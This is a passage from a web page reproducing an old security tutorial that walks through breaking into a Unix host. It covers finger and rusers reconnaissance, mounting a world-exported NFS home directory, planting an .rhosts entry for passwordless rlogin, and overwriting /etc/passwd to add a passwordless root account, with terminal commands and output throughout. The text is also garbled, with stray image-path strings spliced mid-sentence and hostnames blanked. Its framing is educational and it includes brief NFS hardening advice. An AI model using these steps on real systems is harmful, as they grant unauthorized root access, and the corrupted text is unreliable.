Good! A single idle user — it is likely that no one will notice if youactually manage to break in.

Now you try more tactics. As every finger devotee knows, fingering “@”,

“0”, and “”, as well as common names, such as root, bin, ftp, system,

guest, demo, manager, etc., can reveal interesting information. What

that information is depends on the version of finger that your target is

running, but the most notable are account names, along with their home

directories and the host that they last logged in from.To add to this information, you can use rusers (in particular with the

-l flag) to get useful information on logged-in users.

Trying these commands on reveals the following information,

presented in a compressed tabular form to save space:

Login Home-dir Shell Last login, from where

—– ——– —– ———-

root / /bin/sh Fri Nov 5 07:42 on ttyp1 from

bin /bin Never logged in

nobody / Tue Jun 15 08:57 on ttyp2 from

daemon / Tue Mar 23 12:14 on ttyp0 from

sync / /bin/sync Tue Mar 23 12:14 on ttyp0 from

zen /home/zen /bin/bash On since Wed Nov 6 on ttyp3 from

sam /home/sam /bin/csh Wed Nov 5 05:33 on ttyp3 from

guest /export/foo/bin/sh Never logged in

ftp /home/ftp Never logged in

Both our experiments with SATAN and watching system crackers at work

have proved to us that finger is one of the most dangerous services,

because it is so useful for investigating a potential target. However,

much of this information is useful only when used in conjunction with

other data.

For instance, running showmount on your target reveals:

evil % showmount -e

export list for

/export (everyone)

/var (everyone)

/usr easy

/export/exec/kvm/sun4c.sunos.4.1.3 easy/export/root/easy easy

/export/swap/easy easy

Note that /export/foo is exported to the world; also note that this is

user guest’s home directory. Time for your first break-in! In this

case, you’ll mount the home directory of user “guest.” Since you don’t

have a corresponding account on the local machine and since root cannot

modify files on an NFS mounted filesystem, you create a “guest” account

in your local password file. As user guest you can put an .rhosts entry

in the remote guest home directory, which will allow you to login to thetarget machine without having to supply a password.

evil # mount /foo

evil # cd /foo

evil # ls -lag

total 3

1 drwxr-xr-x 11 root daemon 512 Jun 19 09:47 .

1 drwxr-xr-x 7 root wheel 512 Jul 19 1991 ..

1 drwx–x–x 9 10001 daemon 1024 Aug 3 15:49 guest

evil # echo guest:x:10001:1:temporary breakin account:/: >> /etc/passwdevil # ls -lag

total 3

1 drwxr-xr-x 11 root daemon 512 Jun 19 09:47 .

1 drwxr-xr-x 7 root wheel 512 Jul 19 1991 ..

1 drwx–x–x 9 guest daemon 1024 Aug 3 15:49 guest

evil # su guest

evil % echo >> guest/.rhosts

evil % rlogin

Welcome to!

victim %

If, instead of home directories, were exporting filesystems

with user commands (say, /usr or /usr/local/bin), you could replace a

command with a trojan horse that executes any command of your choice.

The next user to execute that command would execute your program.

We suggest that filesystems be exported:

o Read/write only to specific, trusted clients.

o Read-only, where possible (data or programs can often beexported in this manner.)

If the target has a “+” wildcard in its /etc/hosts.equiv (the default in

various vendor’s machines) or has the netgroups bug (CERT advisory

91:12), any non-root user with a login name in the target’s password

file can rlogin to the target without a password. And since the user

“bin” often owns key files and directories, your next attack is to try

to log in to the target host and modify the password file to let you

have root access:

evil % whoami


evil % rsh csh -i

Warning: no access to tty; thus no job control in this shell…

victim % ls -ldg /etcdrwxr-sr-x 8 bin staff 2048 Jul 24 18:02 /etc

victim % cd /etc

victim % mv passwd pw.old

victim % (echo toor::0:1:instant root shell:/:/bin/sh; cat pw.old ) > passwd

victim % ^D

evil % rlogin -l toor

Welcome to!

victim #

A few notes about the method used above; “rsh

Leave a ReplyYour email address will not be published. Required fieldsare marked *

This site uses Akismet to reducespam. Learn how yourcomment data is processed.